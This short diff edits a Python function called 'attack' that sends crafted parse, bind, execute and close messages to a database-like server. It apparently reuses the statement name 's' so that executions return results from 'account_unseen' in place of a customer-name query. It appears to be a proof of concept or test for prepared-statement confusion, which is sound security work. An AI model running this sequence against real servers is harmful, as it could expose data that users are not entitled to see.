@@ -9,7 +9,9 @@ TIMES = 5
 
 def attack(server: Server) -> bytes:
     run = bind(b"s") + execute()
-    anew = close(b"S", b"s") + parse(b"SELECT account_unseen(1)", b"s")
+    unseen = parse(b"SELECT account_unseen(1)", b"s")
     with server.login() as client:
+        # Nothing of the round has to wait until it is read.
+        ask(client, unseen, close(b"S", b"s"), SYNC)
         ask(client, parse(b"SELECT name FROM customer", b"s"), SYNC)
-        return ask(client, run * TIMES, anew, run * TIMES, SYNC)
+        return ask(client, run * TIMES, close(b"S", b"s"), unseen, run * TIMES, SYNC)
